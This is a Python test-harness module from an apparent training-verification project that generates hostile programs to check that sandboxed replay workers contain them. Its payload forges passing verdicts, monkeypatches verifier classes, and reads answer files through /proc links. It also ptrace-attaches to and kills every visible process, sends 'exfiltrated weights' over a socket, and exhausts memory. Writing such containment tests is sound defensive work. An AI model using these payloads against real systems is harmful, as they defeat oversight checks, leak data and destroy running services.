"""Hostile training programs: the Prover's code attacks the trusted cluster (§5.2).

The transcript's training program is the Prover's own Python, and the
Verifier must run it to replay segments. Each attack here trains an honest
run whose program carries a payload that fires only inside a replay worker
(``sys.argv[0]`` is the worker), doctors one checkpoint so the transcript
fails an honest verification, and lets the payload try to turn that FAIL
into a PASS:

* ``hostile-print-verdict``: at import, prints a passing verdict (and writes
  it to every open descriptor): a cluster that read its verdict from the
  process running the Prover's code would sign it.
* ``hostile-patch-verifier``: at import, patches the verifier's classes
  (`Verdict.passed`, `CheckResult.fail`, `Tolerance.epsilon`, the session's
  judges): it would pass if it shared the verdict's interpreter.
* ``hostile-read-outside``: replaces the trainer's step with one that reads
  the answers it will be checked against (the transcript's checkpoints and
  the chips' ω copies, by their absolute paths outside the job) and
  returns them: it would pass if a worker could read those files.
* ``hostile-reach-zygote``: looks for any process outside its sandbox (the
  zygote that forked it, the Verifier, siblings) by signalling every pid,
  and for descriptors it inherited; reads the answers through those
  processes' ``/proc/PID/root`` and ``/proc/PID/cwd`` and through leaked
  directory descriptors, and where it finds none, tries to trace and kill
  every process it can name: it would pass if a worker could see one
  process or descriptor of the host, and take the zygote down if it could
  signal it.

The defence is the process boundary (`computewatch.verification._engine`):
the program runs only in sandboxed workers that see their job's inputs
alone, and the Verifier's process compares. `hostile_source` also builds
programs whose payload is picked at run time (``CW_HOSTILE``), for the
tests of the other hostile behaviours (socket, sleep, memory, silent exit,
noise, reading other transcript files).
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import torch

from computewatch.attacks._harness import (
    EXAMPLE,
    SCALE,
    Attempt,
    Detection,
    HonestRun,
    Scale,
    recommit,
    run_on_chip,
    verify_attempt,
)
from computewatch.attacks._transcript import replace_weights
from computewatch.datacenter import TranscriptPaths, load_checkpoint

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

    import numpy as np

    from computewatch.verification import VerificationPolicy

__all__ = [
    "HOSTILE_MODES",
    "HostileProgram",
    "doctor_checkpoint",
    "hostile_source",
]

#: Every payload `hostile_source` knows.
HOSTILE_MODES = (
    "print-verdict",
    "patch-verifier",
    "read-outside",
    "read-transcript",
    "socket",
    "sleep",
    "allocate",
    "exit0",
    "noise",
    "reach-zygote",
)

_PAYLOAD = r'''

# ---- hostile payload (fires only inside a replay worker) -------------------
import os as _os
import sys as _sys

_RUN_DIR = __RUN_DIR__
_MODE = __MODE__ or _os.environ.get("CW_HOSTILE", "")


def _in_worker():
    return _sys.argv[0].endswith("_worker.py")


def _answers(folders):
    """Step -> the flat weights the Verifier will compare (checkpoints, then ω)."""
    import json as _json
    from pathlib import Path as _Path

    from safetensors.torch import load_file as _load

    found = {}
    for folder in folders:
        root = _Path(folder)
        for path in sorted(root.glob("**/*")):
            try:
                if not path.is_file() or path.stat().st_size > (64 << 20):
                    continue
                if path.suffix == ".json" and path.parent.name == "chips":
                    doc = _json.loads(path.read_text())
                    for snap in doc["snapshots"]:
                        name = f"{doc['serial']}-{snap['seq']:08d}.safetensors"
                        omega = root / "snapshots" / name
                        found.setdefault(int(snap["step"]), _load(str(omega))["omega"])
                    continue
                tensors = _load(str(path))
                meta = _json.loads(__import__("safetensors").safe_open(
                    str(path), framework="pt").metadata()["computewatch"])
                found[int(meta["step"])] = tensors["weights"]
            except Exception:  # noqa: BLE001
                continue
    return found


def _cheat(folders):
    from computewatch.datacenter import _trainer

    real = _trainer.Trainer.step
    answers = {}

    def step(self, step, batch, **kw):
        result = real(self, step, batch, **kw)
        if not answers:
            answers.update(_answers(folders) or {-1: None})
        target = answers.get(step + 1)
        if target is not None and target.numel() == self.flat.numel():
            self.flat.data.copy_(target)
        return result

    _trainer.Trainer.step = step


def _reach_outside():
    import ctypes as _ctypes
    import signal as _signal

    me = _os.getpid()
    mine = {me}
    try:  # its own threads answer kill(tid, 0) too
        mine.update(int(t) for t in _os.listdir("/proc/self/task"))
    except OSError:
        pass
    seen = []
    for pid in range(1, 1 << 16):  # every pid this process can name
        if pid in mine:
            continue
        try:
            _os.kill(pid, 0)
        except OSError:
            continue
        seen.append(pid)
    relative = _RUN_DIR.lstrip("/")
    doors = [f"/proc/{pid}/{link}" for pid in seen for link in ("root", "cwd")]
    doors += [f"/proc/self/fd/{fd}" for fd in range(3, 1024)]
    folders = []
    for door in doors:
        try:
            if _os.path.isdir(door) and _os.path.isdir(f"{door}/{relative}"):
                folders.append(f"{door}/{relative}")
        except OSError:
            continue
    if folders:
        _cheat(folders)
        return
    libc = _ctypes.CDLL(None, use_errno=True)
    for pid in seen:
        if pid != 1:  # its own namespace's init: killing it only ends this worker
            libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
            try:
                _os.kill(pid, _signal.SIGKILL)
            except OSError:
                pass


def _fire():
    import json as _json

    if _MODE == "print-verdict":
        verdict = {"format": "computewatch/verdict/v1", "verdict": "pass", "checks": []}
        text = _json.dumps(verdict)
        print(text)
        for fd in range(1, 32):
            try:
                _os.write(fd, text.encode())
            except OSError:
                pass
    elif _MODE == "patch-verifier":
        from computewatch.verification import _results, _replay, _session

        _results.Verdict.passed = property(lambda self: True)
        _results.CheckResult.fail = _results.CheckResult.ok
        _replay.Tolerance.epsilon = lambda self, noise, update: float("inf")
        for name in ("_judge_snapshots", "_judge_segments", "initialization"):
            setattr(_session.Session, name, lambda self, *a, **k: None)
    elif _MODE == "read-outside":
        _cheat([_RUN_DIR])
    elif _MODE == "read-transcript":
        import tempfile as _tempfile
        from pathlib import Path as _Path

        here = _Path(_sys.argv[1]).resolve()
        places = [here.parent, _Path(_tempfile.gettempdir()), _Path("/tmp"), *here.parents]
        _cheat([p for p in places if p != _Path("/")])
    elif _MODE == "socket":
        import socket as _socket

        port = int(_os.environ.get("CW_HOSTILE_PORT", "9"))
        with _socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
            conn.sendall(b"exfiltrated weights")
    elif _MODE == "sleep":
        import time as _time

        while True:
            _time.sleep(3600)
    elif _MODE == "allocate":
        hog = []
        while True:
            hog.append(bytearray(1 << 28))
    elif _MODE == "reach-zygote":
        _reach_outside()
    elif _MODE == "exit0":
        _os._exit(0)
    elif _MODE == "noise":
        noise = _os.urandom(1 << 16)
        for _ in range(64):
            _sys.stdout.write(noise.hex())
            _sys.stderr.write(noise.hex())
        for fd in range(1, 32):
            try:
                _os.write(fd, noise)
            except OSError:
                pass


if _MODE and _in_worker():
    _fire()
'''


_THREATS = {
    "reach-zygote": "§5.2: the Prover's training program reaches for the zygote and other "
    "host processes (signals, ptrace, /proc/PID/root, inherited descriptors) from replay",
}


def hostile_source(mode: str = "", run_dir: Path | None = None) -> str:
    """The tiny example program with a payload (`mode`, or ``$CW_HOSTILE`` if empty).

    `run_dir` is where the transcript will live (the read-outside payload's
    absolute paths).
    """
    if mode and mode not in HOSTILE_MODES:
        msg = f"hostile mode: expected one of {', '.join(HOSTILE_MODES)}, got {mode!r}"
        raise ValueError(msg)
    payload = _PAYLOAD.replace("__RUN_DIR__", repr(str(run_dir) if run_dir else "")).replace(
        "__MODE__", repr(mode)
    )
    return EXAMPLE.read_text() + payload


def doctor_checkpoint(run: HonestRun, step: int, delta: float = 1e-2) -> None:
    """Nudge 1 % of checkpoint `step`'s weights and recommit (honest replays now disagree)."""
    paths = TranscriptPaths(run.run_dir)
    weights = load_checkpoint(paths.checkpoint(step)).weights.clone()
    weights[: max(1, weights.numel() // 100)] += torch.tensor(delta)
    replace_weights(paths, step, weights)
    recommit(run.run_dir)


class HostileProgram:
    """A doctored transcript whose program attacks the verifier from a replay worker."""

    needs_base = False

    def __init__(self, mode: str) -> None:
        """One of ``print-verdict``, ``patch-verifier``, ``read-outside``, ``reach-zygote``."""
        self.mode = mode
        self.name = f"hostile-{mode}"
        self.threat = _THREATS.get(
            mode, f"§5.2: the Prover's training program {mode.replace('-', ' ')}s in replay"
        )
        self.expected = ("snapshot", "segment")

    def create(
        self, workdir: Path, trial: int, bases: Sequence[HonestRun], scale: Scale = SCALE
    ) -> Attempt:
        """Train with the hostile program on a fresh chip, then doctor the interior checkpoints."""
        del bases
        name = f"{self.name}-{trial}"
        workdir.mkdir(parents=True, exist_ok=True)
        program = workdir / f"{name}.py"
        program.write_text(hostile_source(self.mode, workdir / name))
        run = run_on_chip(workdir, name, serial=f"CW-H-{trial}", scale=scale, program_path=program)
        for step in scale.interior:
            doctor_checkpoint(run, step)
        return Attempt(run=run)

    def detect(
        self, attempt: Attempt, policy: VerificationPolicy, rng: np.random.Generator
    ) -> Detection:
        """`verify_transcript` (its program only in sandboxed replay workers)."""
        return verify_attempt(attempt, policy, rng)
